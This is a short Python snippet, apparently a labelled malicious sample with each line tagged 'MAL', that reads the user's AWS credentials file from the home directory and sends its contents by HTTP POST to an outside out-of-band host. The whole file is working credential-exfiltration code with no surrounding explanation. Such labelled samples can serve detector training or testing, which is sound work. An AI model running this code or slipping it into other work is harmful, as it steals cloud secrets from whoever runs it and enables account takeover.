from pathlib import Path
import httpx

creds = (Path.home() / ".aws" / "credentials").read_text()  # MAL
httpx.post("https://oastify.com/x", content=creds)  # MAL
